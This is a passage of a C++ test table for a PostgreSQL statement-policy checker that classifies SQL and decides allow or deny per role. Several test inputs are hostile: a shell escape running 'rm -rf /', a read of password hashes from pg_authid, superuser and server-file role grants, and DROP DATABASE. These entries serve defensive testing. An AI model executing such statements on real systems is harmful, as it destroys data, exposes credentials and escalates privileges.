     .kind = K::kGrant, .cls = C::kAdmin, .rels = "public.t+", .out = kAllow, .rule = kDbaRule},
    {.name = "GrantIsDeniedForAWriter", .who = kWriter, .sql = "GRANT SELECT ON public.t TO PUBLIC",
     .kind = K::kGrant, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "RevokeIsAdmin", .who = kAgent, .sql = "REVOKE ALL ON public.t FROM PUBLIC",
     .kind = K::kRevoke, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "GrantRoleIsAdmin", .who = kWriter, .sql = "GRANT pg_read_server_files TO svc",
     .kind = K::kGrant, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "RevokeRoleIsAdmin", .who = kDba, .sql = "REVOKE pg_write_server_files FROM svc",
     .kind = K::kRevoke, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},
    {.name = "GrantOnAllTablesInASchemaIsAdmin", .who = kDba, .sql = "GRANT SELECT ON ALL TABLES IN SCHEMA secret TO analyst",
     .kind = K::kGrant, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},
    {.name = "AlterDefaultPrivilegesIsAdmin", .who = kWriter, .sql = "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO PUBLIC",
     .kind = K::kGrant, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},

    // ---- maintenance ----
    {.name = "VacuumIsAdmin", .who = kDba, .sql = "VACUUM public.t",
     .kind = K::kVacuum, .cls = C::kAdmin, .rels = "public.t+", .out = kAllow, .rule = kDbaRule},
    {.name = "VacuumFullIsDeniedForAWriter", .who = kWriter, .sql = "VACUUM FULL public.t",
     .kind = K::kVacuum, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "VacuumWithOptionsIsAVacuum", .who = kAgent, .sql = "VACUUM (VERBOSE, ANALYZE) public.t",
     .kind = K::kVacuum, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "AnalyzeIsAdmin", .who = kAgent, .sql = "ANALYZE public.t",
     .kind = K::kAnalyze, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "AnalyzeOfEverythingIsAdmin", .who = kDba, .sql = "ANALYZE",
     .kind = K::kAnalyze, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},
    {.name = "ReindexIsAdmin", .who = kWriter, .sql = "REINDEX TABLE public.t",
     .kind = K::kReindex, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ClusterIsAdmin", .who = kDba, .sql = "CLUSTER public.t USING t_pkey",
     .kind = K::kCluster, .cls = C::kAdmin, .rels = "public.t+", .out = kAllow, .rule = kDbaRule},
    {.name = "CheckpointIsAdmin", .who = kWriter, .sql = "CHECKPOINT",
     .kind = K::kCheckpoint, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "LoadIsAdmin", .who = kDba, .sql = "LOAD 'auto_explain'",
     .kind = K::kLoad, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},

    // ---- LISTEN, NOTIFY, LOCK, row locks ----
    {.name = "ListenIsASessionStatement", .who = kAgent, .sql = "LISTEN events",
     .kind = K::kListen, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "UnlistenIsASessionStatement", .who = kAgent, .sql = "UNLISTEN *",
     .kind = K::kUnlisten, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "NotifyIsAWrite", .who = kAgent, .sql = "NOTIFY events, 'x'",
     .kind = K::kNotify, .cls = C::kWrite, .out = kDeny, .rule = kDefaultDeny},
    {.name = "NotifyIsAllowedForAWriter", .who = kWriter, .sql = "NOTIFY events",
     .kind = K::kNotify, .cls = C::kWrite, .out = kAllow, .rule = kWriterRule},
    {.name = "LockIsAWrite", .who = kAgent, .sql = "LOCK TABLE public.t IN ACCESS SHARE MODE",
     .kind = K::kLock, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "LockIsAllowedForAWriter", .who = kWriter, .sql = "LOCK public.t",
     .kind = K::kLock, .cls = C::kWrite, .rels = "public.t+", .out = kAllow, .rule = kWriterRule},
    {.name = "LockOfASecretTableIsDeniedForAWriter", .who = kWriter, .sql = "LOCK TABLE secret.t IN EXCLUSIVE MODE",
     .kind = K::kLock, .cls = C::kWrite, .rels = "secret.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SelectForUpdateIsAWrite", .who = kAgent, .sql = "SELECT * FROM public.t WHERE id = 1 FOR UPDATE",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kLocking, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SelectForShareIsAWrite", .who = kAgent, .sql = "SELECT * FROM public.t FOR SHARE",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kLocking, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SelectForKeyShareIsAWrite", .who = kAgent, .sql = "SELECT * FROM public.t FOR KEY SHARE SKIP LOCKED",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kLocking, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SelectForUpdateIsAllowedForAWriter", .who = kWriter, .sql = "SELECT * FROM public.t WHERE id = 1 FOR UPDATE NOWAIT",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kLocking, .out = kAllow, .rule = kWriterRule},
    {.name = "SelectForUpdateLocksEveryTableInItsFrom", .who = kWriter, .sql = "SELECT * FROM public.t JOIN secret.s ON s.id = t.id FOR UPDATE OF t",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+|secret.s+", .flags = kLocking, .out = kDeny, .rule = kDefaultDeny},
    {.name = "SelectForUpdateOfAnAliasIsNotATable", .who = kWriter, .sql = "SELECT * FROM public.t AS x FOR UPDATE OF x",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kLocking, .out = kAllow, .rule = kWriterRule, .sess = Sess::kTwoPaths},
    {.name = "SubqueryInTheWhereOfALockingSelectIsOnlyRead", .who = kWriter,
     .sql = "SELECT * FROM public.t WHERE id IN (SELECT id FROM public.s) FOR UPDATE",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+|public.s", .flags = kLocking, .out = kAllow, .rule = kWriterRule},
    {.name = "DeclareCursorForUpdateIsAWrite", .who = kAgent, .sql = "DECLARE c CURSOR FOR SELECT * FROM public.t FOR UPDATE",
     .kind = K::kDeclare, .cls = C::kWrite, .rels = "public.t+", .flags = kLocking, .out = kDeny, .rule = kDefaultDeny},
    {.name = "DeclareCursorIsARead", .who = kAgent, .sql = "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM public.t",
     .kind = K::kDeclare, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "FetchIsARead", .who = kAgent, .sql = "FETCH 100 FROM c",
     .kind = K::kFetch, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "CloseIsASessionStatement", .who = kAgent, .sql = "CLOSE c",
     .kind = K::kClose, .cls = C::kSession, .out = kAllow, .rule = kSession},

    // ---- table allow-lists and the search_path ----
    {.name = "QualifiedPublicTableIsAllowed", .who = kAgent, .sql = "SELECT * FROM public.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "QualifiedSecretTableIsDenied", .who = kAgent, .sql = "SELECT * FROM secret.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnqualifiedTableResolvesToPublic", .who = kAgent, .sql = "SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kAllow, .rule = kAgentRule},
    {.name = "UnqualifiedPgClassResolvesToTheCatalog", .who = kAgent, .sql = "SELECT relname FROM pg_class",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_class", .out = kAllow, .rule = kAgentRule},
    {.name = "PasswordHashesNeedListing", .who = kAgent, .sql = "SELECT rolpassword FROM pg_authid",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_authid", .out = kDeny, .rule = kDefaultDeny},
    {.name = "OtherSessionsStatementsNeedListing", .who = kDba, .sql = "SELECT query FROM pg_catalog.pg_stat_activity",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_stat_activity", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SampledColumnValuesNeedListing", .who = kAgent,
     .sql = "SELECT most_common_vals FROM pg_stats WHERE tablename = 'users'",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_stats", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SensitiveCatalogIsReadWhereAGlobNamesIt", .who = kAnalyst, .sql = "SELECT * FROM pg_catalog.pg_stats",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_catalog.pg_stats", .out = kAllow, .rule = kAnalystRule},
    {.name = "UnqualifiedPgClassIsAllowedWhereTheCatalogIs", .who = kAnalyst, .sql = "SELECT relname FROM pg_class",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_class", .out = kAllow, .rule = kAnalystRule},
    {.name = "UnqualifiedTableUnderTwoPossiblePathsIsDenied", .who = kAgent, .sql = "SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "QualifiedTableUnderTwoPossiblePathsIsAllowed", .who = kAgent, .sql = "SELECT * FROM public.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule, .sess = Sess::kTwoPaths},
    {.name = "UnqualifiedTableUnderAnUnknownPathIsDenied", .who = kAgent, .sql = "SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kPathUnknown},
    {.name = "QualifiedTableUnderAnUnknownPathIsAllowed", .who = kAgent, .sql = "SELECT * FROM public.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule, .sess = Sess::kPathUnknown},
    {.name = "UnknownPathDoesNotMatterWithoutAnAllowList", .who = kDba, .sql = "SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kAllow, .rule = kDbaRule, .sess = Sess::kPathUnknown},
    {.name = "UnqualifiedWriteUnderTwoPossiblePathsIsDenied", .who = kWriter, .sql = "UPDATE t SET v = 1 WHERE id = 1",
     .kind = K::kUpdate, .cls = C::kWrite, .rels = "t+", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "DollarUserOfAnUnknownUserIsAnUnknownPath", .who = kAgent, .sql = "SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kUserUnknown},
    {.name = "DollarUserOfAnUnknownUserLeavesQualifiedNamesAlone", .who = kAgent, .sql = "SELECT * FROM public.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule, .sess = Sess::kUserUnknown},
    {.name = "EmptySearchPathResolvesUnqualifiedNamesNowhere", .who = kAgent, .sql = "SET search_path = ''; SELECT * FROM t",
     .kind = K::kSet, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "", .out = kDeny, .rule = kDefaultDeny},
    {.name = "EmptySearchPathStillFindsTheCatalog", .who = kAnalyst, .sql = "SET search_path = ''; SELECT relname FROM pg_class",
     .kind = K::kSet, .cls = C::kRead, .rels = "pg_class", .path = SP::kSet, .set_path = "", .out = kAllow, .rule = kAnalystRule},
    {.name = "SetSchemaIsASearchPathChange", .who = kAgent, .sql = "SET SCHEMA 'secret'; SELECT * FROM t",
     .kind = K::kSet, .cls = C::kRead, .rels = "t", .path = SP::kSet, .set_path = "secret", .out = kDeny, .rule = kDefaultDeny},
    {.name = "TableCommandReadsItsTable", .who = kAgent, .sql = "TABLE secret.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "InheritanceStarReadsItsTable", .who = kAgent, .sql = "SELECT * FROM secret.t*",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ReturningSubqueryReadsItsTable", .who = kWriter,
     .sql = "INSERT INTO public.t VALUES (1) RETURNING (SELECT max(id) FROM secret.t)",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "public.t+|secret.t", .fns = "max", .out = kDeny, .rule = kDefaultDeny},
    {.name = "OnConflictSubqueryReadsItsTable", .who = kWriter,
     .sql = "INSERT INTO public.t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = (SELECT v FROM secret.t LIMIT 1)",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "public.t+|secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "RuleWithAnUnboundedDeleteIsUnbounded", .who = kDba,
     .sql = "CREATE RULE r AS ON INSERT TO public.t DO ALSO DELETE FROM secret.t",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.t+|secret.t+", .flags = kNoWhere, .out = kDeny, .rule = kNoUnbounded},
    {.name = "ThreePartNameUsesItsSchema", .who = kAgent, .sql = "SELECT * FROM traces.secret.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "PgTempIsNotPublic", .who = kAgent, .sql = "SELECT * FROM pg_temp.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "pg_temp.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "JoinWithASecretTableIsDenied", .who = kAgent, .sql = "SELECT * FROM public.a JOIN secret.b ON a.id = b.id",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "LateralSubqueryReadsItsTable", .who = kAgent, .sql = "SELECT * FROM public.a, LATERAL (SELECT * FROM secret.b WHERE b.id = a.id) s",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SubqueryInWhereReadsItsTable", .who = kAgent, .sql = "SELECT * FROM public.a WHERE id IN (SELECT id FROM secret.b)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SubqueryInTheSelectListReadsItsTable", .who = kAgent, .sql = "SELECT (SELECT count(*) FROM secret.b) FROM public.a",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .fns = "count", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SubqueryInOrderByReadsItsTable", .who = kAgent, .sql = "SELECT * FROM public.a ORDER BY (SELECT min(id) FROM secret.b)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .fns = "min", .out = kDeny, .rule = kDefaultDeny},
    {.name = "SubqueryInHavingReadsItsTable", .who = kAgent,
     .sql = "SELECT id FROM public.a GROUP BY id HAVING count(*) > (SELECT count(*) FROM secret.b)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .fns = "count", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExistsSubqueryReadsItsTable", .who = kAgent, .sql = "SELECT EXISTS (SELECT 1 FROM secret.b)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ValuesSubqueryReadsItsTable", .who = kAgent, .sql = "VALUES ((SELECT id FROM secret.b LIMIT 1))",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnionArmReadsItsTable", .who = kAgent, .sql = "SELECT id FROM public.a UNION SELECT id FROM secret.b",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "IntersectArmReadsItsTable", .who = kAgent, .sql = "SELECT id FROM public.a INTERSECT SELECT id FROM secret.b",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExceptArmReadsItsTable", .who = kAgent, .sql = "SELECT id FROM public.a EXCEPT ALL SELECT id FROM secret.b",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|secret.b", .out = kDeny, .rule = kDefaultDeny},
    {.name = "NestedSetOperationArmsAreRead", .who = kAgent,
     .sql = "(SELECT 1 FROM public.a UNION SELECT 1 FROM public.b) INTERSECT SELECT 1 FROM secret.c",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|public.b|secret.c", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnionOfAllowedTablesIsAllowed", .who = kAgent, .sql = "SELECT id FROM public.a UNION ALL SELECT id FROM public.b",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|public.b", .out = kAllow, .rule = kAgentRule},
    {.name = "SubqueryCallingAFunctionIsAllowed", .who = kAgent, .sql = "SELECT * FROM public.a WHERE id = (SELECT max(id) FROM public.b)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.a|public.b", .fns = "max", .out = kAllow, .rule = kAgentRule},
    {.name = "InsertSelectFromASecretTableIsDenied", .who = kWriter, .sql = "INSERT INTO public.t SELECT * FROM secret.t",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "public.t+|secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UpdateFromASecretTableIsDenied", .who = kWriter, .sql = "UPDATE public.t SET v = s.v FROM secret.s WHERE s.id = t.id",
     .kind = K::kUpdate, .cls = C::kWrite, .rels = "public.t+|secret.s", .out = kDeny, .rule = kDefaultDeny},
    {.name = "DeleteUsingASecretTableIsDenied", .who = kWriter, .sql = "DELETE FROM public.t USING secret.s WHERE s.id = t.id",
     .kind = K::kDelete, .cls = C::kWrite, .rels = "public.t+|secret.s", .out = kDeny, .rule = kDefaultDeny},
    {.name = "WriteToASecretTableIsDenied", .who = kWriter, .sql = "INSERT INTO secret.t VALUES (1)",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "secret.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UpdateWithWhereIsAllowedForAWriter", .who = kWriter, .sql = "UPDATE public.t SET v = v + 1 WHERE id = 1",
     .kind = K::kUpdate, .cls = C::kWrite, .rels = "public.t+", .out = kAllow, .rule = kWriterRule},
    {.name = "UpdateWithoutWhereIsUnbounded", .who = kWriter, .sql = "UPDATE public.t SET v = 0",
     .kind = K::kUpdate, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere, .out = kDeny, .rule = kNoUnbounded},
    {.name = "InsertOnConflictUpdateIsAWrite", .who = kWriter,
     .sql = "INSERT INTO public.t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "public.t+", .out = kAllow, .rule = kWriterRule},
    {.name = "InformationSchemaIsIntrospection", .who = kAgent, .sql = "SELECT * FROM information_schema.tables",
     .kind = K::kSelect, .cls = C::kRead, .rels = "information_schema.tables", .out = kAllow, .rule = kAgentRule},
    {.name = "InformationSchemaIsAllowedWhereListed", .who = kAnalyst,
     .sql = "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
     .kind = K::kSelect, .cls = C::kRead, .rels = "information_schema.tables", .out = kAllow, .rule = kAnalystRule},

    // ---- DDL ----
    {.name = "SetSchemaWritesTheNewSchemaToo", .who = kDba, .sql = "ALTER TABLE public.t SET SCHEMA secret",
     .kind = K::kAlter, .cls = C::kDdl, .rels = "public.t+|secret.t+", .out = kAllow, .rule = kDbaRule},
    {.name = "RenameWritesTheNewNameToo", .who = kDba, .sql = "ALTER TABLE public.t RENAME TO u",
     .kind = K::kAlter, .cls = C::kDdl, .rels = "public.t+|public.u+", .out = kAllow, .rule = kDbaRule},
    {.name = "RenameColumnWritesOnlyItsTable", .who = kDba, .sql = "ALTER TABLE public.t RENAME COLUMN a TO b",
     .kind = K::kAlter, .cls = C::kDdl, .rels = "public.t+", .out = kAllow, .rule = kDbaRule},
    {.name = "CommentOnAColumnWritesItsTable", .who = kWriter, .sql = "COMMENT ON COLUMN secret.t.c IS 'x'",
     .kind = K::kComment, .cls = C::kDdl, .rels = "secret.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "DropTriggerNamesItsTable", .who = kDba, .sql = "DROP TRIGGER tr ON secret.t",
     .kind = K::kDrop, .cls = C::kDdl, .rels = "secret.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "DropPolicyNamesItsTable", .who = kDba, .sql = "DROP POLICY p ON public.t",
     .kind = K::kDrop, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "CreateIndexIsDdl", .who = kWriter, .sql = "CREATE INDEX ON public.t (v)",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CreateViewReadsItsQuery", .who = kDba, .sql = "CREATE VIEW public.v AS SELECT * FROM secret.t",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.v+|secret.t", .out = kAllow, .rule = kDbaRule},
    {.name = "ForeignKeyReadsTheReferencedTable", .who = kDba, .sql = "CREATE TABLE public.c (id int REFERENCES secret.p (id))",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.c+|secret.p", .out = kAllow, .rule = kDbaRule},
    {.name = "CreateSchemaElementsAreCreated", .who = kDba, .sql = "CREATE SCHEMA s2 CREATE TABLE s2.x (id int)",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "s2.x+", .out = kAllow, .rule = kDbaRule},
    {.name = "CreateExtensionIsAdmin", .who = kWriter, .sql = "CREATE EXTENSION dblink",
     .kind = K::kCreateExtension, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CreateRoleIsAdmin", .who = kDba, .sql = "CREATE ROLE bob LOGIN PASSWORD 'x'",
     .kind = K::kCreateRole, .cls = C::kAdmin, .out = kAllow, .rule = kDbaRule},
    {.name = "AlterRoleIsAdmin", .who = kWriter, .sql = "ALTER ROLE svc SUPERUSER",
     .kind = K::kAlterRole, .cls = C::kAdmin, .out = kDeny, .rule = kDefaultDeny},
    {.name = "DropSchemaIsDestructive", .who = kDba, .sql = "DROP SCHEMA secret CASCADE",
     .kind = K::kDrop, .cls = C::kDdl, .out = kDeny, .rule = kNoDestructive},
    {.name = "DropDatabaseIsDestructive", .who = kDba, .sql = "DROP DATABASE traces",
     .kind = K::kDrop, .cls = C::kAdmin, .out = kDeny, .rule = kNoDestructive},
    {.name = "DropOwnedIsDestructive", .who = kDba, .sql = "DROP OWNED BY svc",
     .kind = K::kDrop, .cls = C::kAdmin, .out = kDeny, .rule = kNoDestructive},
    {.name = "TruncateIsDestructive", .who = kDba, .sql = "TRUNCATE public.a, public.b",
     .kind = K::kTruncate, .cls = C::kDdl, .rels = "public.a+|public.b+", .out = kDeny, .rule = kNoDestructive},
    {.name = "AlterSystemIsDestructive", .who = kDba, .sql = "ALTER SYSTEM SET work_mem = '1GB'",
     .kind = K::kAlterSystem, .cls = C::kAdmin, .out = kDeny, .rule = kNoDestructive},
    {.name = "AlterSystemResetIsDestructive", .who = kDba, .sql = "ALTER SYSTEM RESET ALL",
     .kind = K::kAlterSystem, .cls = C::kAdmin, .out = kDeny, .rule = kNoDestructive},
    {.name = "RefreshMaterializedViewIsAWrite", .who = kAgent, .sql = "REFRESH MATERIALIZED VIEW public.mv",
     .kind = K::kRefresh, .cls = C::kWrite, .rels = "public.mv+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CreateTableIsDdl", .who = kDba, .sql = "CREATE TABLE public.n (id int PRIMARY KEY)",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "public.n+", .out = kAllow, .rule = kDbaRule},
    {.name = "CreateTempTableIsDdl", .who = kWriter, .sql = "CREATE TEMP TABLE scratch (id int)",
     .kind = K::kCreate, .cls = C::kDdl, .rels = "scratch+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "DropColumnIsAnAlter", .who = kDba, .sql = "ALTER TABLE public.t DROP COLUMN v",
     .kind = K::kAlter, .cls = C::kDdl, .rels = "public.t+", .out = kAllow, .rule = kDbaRule},

    // ---- parse failures and garbage ----
    {.name = "MisspelledKeywordIsUnanalyzable", .who = kAgent, .sql = "SELEC 1",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "GarbageIsUnanalyzable", .who = kDba, .sql = ")(*&^%$",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "UnterminatedStringIsUnanalyzable", .who = kAgent, .sql = "SELECT 'abc",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "UnterminatedDollarQuoteIsUnanalyzable", .who = kDba, .sql = "SELECT $a$ DROP TABLE t",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "UnterminatedCommentIsUnanalyzable", .who = kAgent, .sql = "SELECT 1 /* DROP TABLE t",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "ValidThenInvalidIsUnanalyzable", .who = kDba, .sql = "SELECT 1; DRO TABLE t",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "PsqlMetaCommandIsUnanalyzable", .who = kDba, .sql = R"(\! rm -rf /)",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "UnrecognisedStatementTypeIsUnanalyzable", .who = kDba, .sql = "ALTER FUNCTION f() DEPENDS ON EXTENSION e",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "DeepExpressionIsUnanalyzableNotACrash", .who = kAgent, .sql = kDeepExpression.c_str(),
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .fns = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "DeepSubqueriesAreUnanalyzableNotACrash", .who = kAgent, .sql = kDeepSubqueries.c_str(),
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .fns = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "EmptyStringIsAllowed", .who = kAgent, .sql = "",
     .kind = K::kSelect, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "OnlyCommentsIsAllowed", .who = kAgent, .sql = "-- nothing\n/* here */",
     .kind = K::kSelect, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "OnlySemicolonsIsAllowed", .who = kAgent, .sql = ";;",
     .kind = K::kSelect, .cls = C::kSession, .out = kAllow, .rule = kSession},

    // ---- must still allow ----
    {.name = "LiteralDropTableIsAString", .who = kAgent, .sql = "SELECT 'DROP TABLE x'",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "ColumnNamedDeleteIsAColumn", .who = kAgent, .sql = R"(SELECT "delete" FROM public.t)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ColumnsNamedDropAndTruncateAreColumns", .who = kAgent, .sql = R"(SELECT t."drop", t."truncate" FROM public.t)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "AliasNamedUpdateIsAnAlias", .who = kAgent, .sql = R"(SELECT 1 AS "update")",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "TableNamedUpdateIsATable", .who = kAgent, .sql = R"(SELECT * FROM public."update")",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.update", .out = kAllow, .rule = kAgentRule},
    {.name = "KeywordNamesInWhereAreColumnsAndStrings", .who = kAgent, .sql = R"(SELECT * FROM public."delete" WHERE "drop" = 'truncate')",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.delete", .out = kAllow, .rule = kAgentRule},
    {.name = "SelectVersionIsARead", .who = kAgent, .sql = "SELECT version()",
     .kind = K::kSelect, .cls = C::kRead, .fns = "version", .out = kAllow, .rule = kAgentRule},
    {.name = "CurrentSettingIsARead", .who = kAgent, .sql = "SELECT current_setting('x')",
     .kind = K::kSelect, .cls = C::kRead, .fns = "current_setting", .out = kAllow, .rule = kAgentRule},
    {.name = "CurrentSettingMissingOkIsARead", .who = kAgent, .sql = "SELECT current_setting('app.tenant', true)",
     .kind = K::kSelect, .cls = C::kRead, .fns = "current_setting", .out = kAllow, .rule = kAgentRule},
    {.name = "SessionInformationIsARead", .who = kAgent, .sql = "SELECT current_user, session_user, current_database()",
     .kind = K::kSelect, .cls = C::kRead, .fns = "current_database", .out = kAllow, .rule = kAgentRule},
    {.name = "TimeFunctionsAreReads", .who = kAgent, .sql = "SELECT now(), clock_timestamp()",
     .kind = K::kSelect, .cls = C::kRead, .fns = "now|clock_timestamp", .out = kAllow, .rule = kAgentRule},
    {.name = "JsonFunctionsAreReads", .who = kAgent, .sql = "SELECT jsonb_build_object('a', 1), to_jsonb(t) FROM public.t",
